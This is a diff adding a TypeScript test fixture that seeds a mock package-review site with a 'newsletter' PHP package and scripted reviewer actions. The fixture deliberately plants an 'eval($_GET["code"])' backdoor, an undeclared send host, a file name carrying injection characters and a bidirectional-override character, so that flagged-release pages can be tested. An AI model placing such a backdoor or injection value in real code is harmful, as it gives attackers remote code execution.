@@ -1,0 +1,151 @@
+import type { GalleryArea, GalleryPage } from './gallery.js';
+import type { World } from './world.js';
+
+const CASE = '/review/newsletter/1.1.0';
+
+/** The desk of the reviewers. */
+export const reviewPages: GalleryArea = {
+  name: 'review',
+  async pages(world): Promise<readonly GalleryPage[]> {
+    await tell(world);
+    const flagged = nameOf(world);
+    const as = 'reviewer' as const;
+    return [
+      { name: 'queue', path: '/review', as },
+      { name: 'queue-forbidden', path: '/review', as: 'member', status: 403 },
+      { name: 'registration', path: '/review/ledger', as },
+      { name: 'release', path: CASE, as },
+      { name: 'release-published', path: '/review/newsletter/1.0.0', as },
+      { name: 'flags', path: `${CASE}/flags`, as },
+      { name: 'files', path: `${CASE}/files`, as },
+      { name: 'files-none', path: `${CASE}/files?find=nothing-of-that-name`, as },
+      { name: 'file', path: `${CASE}/file?${new URLSearchParams({ path: flagged })}`, as },
+      { name: 'file-prose', path: `${CASE}/file?path=README.md`, as },
+      { name: 'file-binary', path: `${CASE}/file?path=logo.png`, as },
+      { name: 'file-binary-text', path: `${CASE}/file?path=logo.png&text=1`, as },
+      { name: 'file-missing', path: `${CASE}/file?path=none.php`, as, status: 404 },
+      { name: 'search', path: `${CASE}/search?query=eval`, as },
+      { name: 'search-refused', path: `${CASE}/search?query=`, as },
+      { name: 'thread', path: `${CASE}/thread`, as },
+      { name: 'thread-empty', path: '/review/ledger/thread', as },
+      { name: 'decide', path: `${CASE}/decide`, as },
+      {
+        name: 'decide-refused',
+        path: `${CASE}/decide`,
+        as,
+        act: async (page) => {
+          await page.getByLabel('Ask for changes').check();
+          await page.locator('form.sheet button:not(.first):not(.plain)').click();
+        },
+      },
+      {
+        name: 'decide-preview',
+        path: `${CASE}/decide`,
+        as,
+        act: async (page) => {
+          await page.getByLabel('Ask for changes').check();
+          await page
+            .getByLabel('Reason (optional)', { exact: true })
+            .fill(world.say('Say what is done with the addresses.'));
+          await page.locator('form.sheet button:not(.first):not(.plain)').click();
+        },
+      },
+      { name: 'history', path: '/review/newsletter/history', as },
+      { name: 'reasons', path: '/review/-/reasons', as },
+      { name: 'appeals', path: '/review/-/appeals', as },
+      {
+        name: 'appeal',
+        path: '/review/-/appeals',
+        as,
+        act: (page) => page.getByRole('link', { name: /^Read/ }).first().click(),
+      },
+      { name: 'altered', path: '/review/-/altered', as },
+      { name: 'altered-group', path: `/review/-/altered/newsletter/${'ab'.repeat(32)}`, as },
+    ];
+  },
+};
+
+async function tell(world: World): Promise<void> {
+  const { people, say, upload } = world;
+  const { publisher, reviewer } = people;
+  await publisher.agent('service_register_artifact', {
+    slug: 'newsletter',
+    name: say('Newsletter').slice(0, 120),
+    description: {
+      en: say('Sends letters to who has asked for them.'),
+      de: say('Sendet Briefe an alle, die sie wollen.'),
+    },
+  });
+  await reviewer.call('decide_artifact', { slug: 'newsletter', decision: 'approve' });
+  await upload('newsletter', '1.0.0', { files: filesOf(world, false), manifest: manifestOf(world, '1.0.0') });
+  await reviewer.call('decide_release', { slug: 'newsletter', version: '1.0.0', decision: 'approve' });
+  await upload('newsletter', '1.1.0', { files: filesOf(world, true), manifest: manifestOf(world, '1.1.0') });
+  const about = { slug: 'newsletter', version: '1.1.0' };
+  await reviewer.call('claim_review', about);
+  await reviewer.call('ask_publisher', { ...about, text: say('Where does the report go?') });
+  await publisher.call('write_to_reviewer', { ...about, text: say('To the address of the customer, nowhere else.') });
+  await reviewer.call('write_review_note', {
+    ...about,
+    text: say('The same host was in the version that was suspended.'),
+  });
+  await reviewer.call('save_reason', {
+    title: say('Undeclared host').slice(0, 120),
+    text: say('The package sends data to a host that neither the notes nor the permissions name.'),
+  });
+  const { licence_key } = await world.console('issue_licence', { slug: 'newsletter', installation: 'shop-1' });
+  await fetch(new URL('/v1/artifacts/newsletter/altered-reports', world.url), {
+    method: 'POST',
+    headers: { authorization: `Bearer ${licence_key}`, 'content-type': 'application/json' },
+    body: JSON.stringify({ version: '1.0.0', sha256: 'ab'.repeat(32), installation: 'shop-1' }),
+  });
+  await publisher.call('appeal_decision', { slug: 'broken', words: say('The description says what it will do.') });
+}
+
+/** A file that the scan has something to say about. */
+function nameOf({ hostile }: World): string {
+  return hostile ? `src/a'&x=${encodeURIComponent('<')}b owned.php` : 'src/Report.php';
+}
+
+function manifestOf({ say }: World, version: string): Readonly<Record<string, unknown>> {
+  const isNew = version !== '1.0.0';
+  return {
+    slug: 'newsletter',
+    version,
+    name: say('Newsletter'),
+    permissions: isNew ? ['letters.write', say('addresses.read')] : ['letters.write'],
+    hooks: [say('letter.sent')],
+    requires: { mail: isNew ? '^2.0' : '^1.0' },
+  };
+}
+
+function filesOf(world: World, isNew: boolean): Record<string, string | Uint8Array> {
+  const { say } = world;
+  const old = [
+    '<?php',
+    'final class Report',
+    '{',
+    '    public function total(): int',
+    '    {',
+    '        return 1;',
+    '    }',
+    '}',
+  ];
+  const added = [
+    `    // ${say('Sends the report.')}`,
+    "    private const HOST = 'http://192.0.2.7/send';",
+    '    function run() { eval($_GET["code"]); }',
+  ];
+  const files: Record<string, string | Uint8Array> = {
+    [nameOf(world)]: `${(isNew ? [...old.slice(0, 3), ...added, ...old.slice(3)] : old).join('\n')}\n`,
+    'src/Letter.php': `<?php\n// ${say('A letter.')}\nfinal class Letter {}\n`,
+    'migrations/2026_01_letters.php': '<?php // creates the table\n',
+    'routes.php': '<?php // routes\n',
+  };
+  if (!isNew) return { ...files, 'src/Old.php': '<?php // gone later\n' };
+  return {
+    ...files,
+    'README.md': `# ${say('Newsletter')}\n\nنص عربي\u202e and ${'a long line '.repeat(200)}\n`,
+    'logo.png': Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0, ...Buffer.from(say('pixels'))]),
+    ...Object.fromEntries(Array.from({ length: 220 }, (_, at) => [`assets/icon-${at}.svg`, `<svg id="i${at}"/>\n`])),
+  };
+}
